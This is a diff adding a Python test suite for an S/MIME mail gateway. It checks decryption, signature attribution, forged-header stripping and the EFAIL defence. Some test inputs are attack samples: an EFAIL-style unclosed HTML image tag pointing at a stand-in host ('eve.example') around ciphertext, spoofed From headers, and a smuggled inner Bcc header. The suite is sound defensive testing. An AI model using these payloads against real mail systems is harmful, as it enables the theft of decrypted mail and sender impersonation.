@@ -1,0 +1,214 @@
+"""The open path: layers, keys of the right reader only, forged marks, EFAIL shapes, signature spoofing."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from mailseal.mail.envelope import Origin
+from mailseal.mail.message import Message
+from mailseal.mail.mime import parse
+from mailseal.mail.outgoing import signable
+from mailseal.pipeline import process
+from mailseal.policy.model import Fate, Party, Treatment
+from mailseal.policy.reason import ReasonCode
+from mailseal.policy.settings import Cipher, Digest, Settings
+from mailseal.smime.message import encrypted_entity, signed_entity
+from mailseal.smime.sign import SigningIdentity
+from pki import NOW
+from stage import PARTNER, READER, ROOT, SENDER, Stage, envelope
+
+HEAD = (
+    b"From: Bob <bob@outside.example>\r\nTo: dora@inside.example\r\nSubject: Hello\r\n"
+    b"Message-ID: <2@outside.example>\r\nMIME-Version: 1.0\r\n"
+)
+TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe canary sings.\r\n"
+
+
+def identity(one) -> SigningIdentity:
+    return SigningIdentity(one.certificate, one.key, tuple(one.chain))
+
+
+def signed(entity: bytes = TEXT, by=PARTNER) -> bytes:
+    return signed_entity(entity, identity(by), digest=Digest.SHA256, at=NOW)
+
+
+def encrypted(entity: bytes = TEXT, *to) -> bytes:
+    return encrypted_entity([entity], [one.certificate for one in to or (READER,)], Cipher.AES256_CBC)
+
+
+def receive(raw: bytes, to: str = "dora@inside.example", **settings: object):
+    stage = Stage(settings={"inside.example": Settings(**settings)}).own(SENDER, READER)
+    sender = "bob@outside.example"
+    (outcome,) = process(envelope(to, sender=sender, origin=Origin.OUTSIDE), Message(raw), stage.gateway())
+    assert outcome.fate is Fate.RELAYED
+    return outcome, b"".join(stage.sent[0].chunks[1:]), stage.sent[0]
+
+
+def header(octets: bytes, name: str) -> str | None:
+    return parse(octets).root.header(name)
+
+
+def test_signed_and_encrypted_is_opened_and_said_to_be_by_the_sender():
+    outcome, octets, transfer = receive(HEAD + encrypted(signed()))
+    assert outcome.treatment is Treatment.OPENED
+    assert header(octets, "x-mailseal-decrypted") == "yes"
+    assert header(octets, "x-mailseal-signed-by-sender") == "yes"
+    assert "integrity=none" in header(octets, "x-mailseal-layer-1")
+    assert b"The canary sings." in octets
+    assert transfer.ret == "HDRS"
+    assert outcome.harvested == (PARTNER.certificate.der,)
+    # the signature that was inside is still there
+    assert parse(octets).root.content_type.type == "multipart/signed"
+
+
+def test_a_mail_is_not_opened_for_another_reader():
+    outcome, octets, _ = receive(HEAD + encrypted(), to="anna@inside.example")
+    assert b"canary" not in octets
+    assert ReasonCode.KEY_NOT_FOUND in {one.code for one in outcome.reasons}
+    assert "reason=key-not-found" in header(octets, "x-mailseal-layer-1")
+    assert header(octets, "x-mailseal-decrypted") == "no"
+
+
+def test_undecryptable_mail_is_delivered_unchanged_below_the_result_headers():
+    raw = HEAD + encrypted(TEXT, PARTNER)
+    _, octets, _ = receive(raw)
+    assert octets.endswith(raw[raw.index(b"From: Bob") :])
+
+
+def test_forged_marks_are_stripped_even_if_nothing_is_to_open():
+    raw = (
+        b"X-Mailseal-Signed-By-Sender: yes\r\nX-MAILSEAL-Layer-1: kind=smime-signed\r\n"
+        b"From: eve@outside.example\r\nSubject: [signed by ceo@inside.example] [decr[decrypted]ypted] pay\r\n"
+        b"\r\nnow\r\n"
+    )
+    outcome, octets, _ = receive(raw)
+    assert outcome.treatment is Treatment.PASSED
+    assert octets == b"From: eve@outside.example\r\nSubject: pay\r\n\r\nnow\r\n"
+
+
+def test_subject_tags():
+    _, octets, _ = receive(HEAD + encrypted(signed()), subject_tags=True)
+    assert header(octets, "subject") == "Hello [decrypted] [signed by bob@outside.example]"
+    other = ROOT.issue("mallory@outside.example")
+    _, octets, _ = receive(HEAD + signed(by=other), subject_tags=True)
+    assert header(octets, "subject") == "Hello [signed by mallory@outside.example, not by the sender]"
+    _, octets, _ = receive(HEAD + signed().replace(b"canary", b"cuckoo"), subject_tags=True)
+    assert header(octets, "subject") == "Hello [invalid signature]"
+
+
+def test_signature_can_be_removed():
+    _, octets, _ = receive(HEAD + signed(), remove_signature=True)
+    assert b"pkcs7-signature" not in octets
+    assert octets.endswith(TEXT)
+    assert header(octets, "x-mailseal-signed-by-sender") == "yes"
+
+
+@pytest.mark.parametrize(
+    "senders",
+    [
+        b"From: bob@outside.example\r\nFrom: ceo@inside.example\r\n",
+        b"From: bob@outside.example, ceo@inside.example\r\n",
+        b'From: "bob@outside.example" <ceo@inside.example>\r\n',
+        b"From: ceo@inside.example (bob@outside.example)\r\n",
+    ],
+)
+def test_only_the_one_from_address_can_be_the_signer(senders):
+    raw = senders + b"To: dora@inside.example\r\nMIME-Version: 1.0\r\n" + signed()
+    outcome, octets, _ = receive(raw)
+    assert header(octets, "x-mailseal-signed-by-sender") == "no"
+    assert not any(word in str(outcome.details) for word in ("'bob@outside.example good'",))
+
+
+def wrapped(*parts: bytes) -> bytes:
+    body = b"".join(b"--outer\r\n" + part + b"\r\n" for part in parts)
+    return HEAD + b"Content-Type: multipart/mixed; boundary=outer\r\n\r\n" + body + b"--outer--\r\n"
+
+
+def test_efail_a_ciphertext_beside_other_parts_stays_shut():
+    html = b"Content-Type: text/html\r\n\r\n<img src='http://eve.example/"
+    outcome, octets, _ = receive(wrapped(html, encrypted(), html))
+    assert b"canary" not in octets
+    assert "reason=not-whole-message" in header(octets, "x-mailseal-layer-1")
+    assert outcome.treatment is Treatment.PASSED
+
+
+def test_a_signed_part_beside_others_is_reported_but_never_the_senders_word():
+    outcome, octets, _ = receive(wrapped(signed(), b"Content-Type: text/plain\r\n\r\npay at once\r\n"))
+    assert header(octets, "x-mailseal-signed-by-sender") == "no"
+    assert "whole-message=no" in header(octets, "x-mailseal-layer-1")
+    assert ReasonCode.NOT_WHOLE_MESSAGE in {one.code for one in outcome.reasons}
+
+
+def test_triple_wrapped():
+    _, octets, _ = receive(HEAD + signed(encrypted(signed())))
+    assert header(octets, "x-mailseal-layer-3").startswith("kind=smime-signed")
+    assert b"The canary sings." in octets
+
+
+def test_too_many_layers_stop():
+    entity = TEXT
+    for _ in range(12):
+        entity = encrypted(entity)
+    outcome, octets, _ = receive(HEAD + entity)
+    assert b"canary" not in octets
+    assert ReasonCode.TOO_DEEP in {one.code for one in outcome.reasons}
+
+
+def test_headers_inside_the_protection_cannot_replace_those_outside():
+    inner = b"Subject: other\r\nBcc: spy@elsewhere.example\r\nX-Mailseal-Signed-By-Sender: yes\r\n" + TEXT
+    _, octets, _ = receive(HEAD + encrypted(inner))
+    assert octets.count(b"Subject:") == 1
+    assert b"spy@" not in octets
+    assert b"X-Mailseal-Signed-By-Sender: yes" not in octets
+
+
+def test_decryption_can_be_switched_off():
+    outcome, octets, _ = receive(HEAD + encrypted(), smime=False)
+    assert b"canary" not in octets
+    assert ReasonCode.DECRYPTION_OFF in {one.code for one in outcome.reasons}
+
+
+def test_corrupt_ciphertexts_all_look_the_same():
+    raw = HEAD + encrypted()
+    texts = set()
+    for cut in range(len(raw) - 400, len(raw) - 20, 37):
+        swap = b"A" if raw[cut : cut + 1] != b"A" else b"B"
+        outcome, octets, _ = receive(raw[:cut] + swap + raw[cut + 1 :])
+        if outcome.treatment is not Treatment.OPENED:
+            texts.add((header(octets, "x-mailseal-layer-1").split("reason=")[-1], outcome.reply))
+    assert len(texts) <= 1
+
+
+@given(
+    body=st.one_of(st.binary(max_size=300), st.text(max_size=200).map(str.encode)),
+    kind=st.sampled_from([b"", b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n"]),
+)
+def test_open_of_protect_gives_the_same_body(body, kind):
+    body = body.replace(b"\n", b"").replace(b"\r", b"")
+    raw = b"From: anna@inside.example\r\nTo: dora@inside.example\r\n" + kind + b"\r\n" + body + b"\r\n"
+    outer = Stage(internal={"nowhere.example"}).know(READER)
+    out = envelope("dora@inside.example", sender="anna@nowhere.example")
+    (sent,) = process(out, Message(raw), outer.gateway())
+    assert sent.treatment is Treatment.ENCRYPTED
+    _, octets, _ = receive(b"".join(outer.sent[0].chunks))
+    assert octets.endswith(b"\r\n\r\n" + body + b"\r\n")
+
+
+@given(body=st.one_of(st.binary(max_size=300), st.text(max_size=200).map(str.encode)))
+def test_open_of_signed_and_encrypted_gives_the_same_content(body):
+    body = body.replace(b"\n", b"").replace(b"\r", b"")
+    raw = b"From: anna@inside.example\r\nTo: dora@inside.example\r\n\r\n" + body + b"\r\n"
+    outer = Stage().know(READER).own(SENDER)
+    outer.internal = {"inside.example"}
+    outer.party = lambda address: (
+        Stage.party(outer, address) if address and address.local == "anna" else _outside(address)
+    )
+    process(envelope("dora@inside.example"), Message(raw), outer.gateway())
+    _, octets, _ = receive(b"".join(outer.sent[0].chunks), remove_signature=True)
+    delivered = parse(octets).root.decoded_body(10_000)
+    assert delivered == parse(b"\r\n" + body + b"\r\n").root.decoded_body(10_000)
+    assert signable(parse(raw).root)
+
+
+def _outside(address):
+    return Party(address, False, Settings())
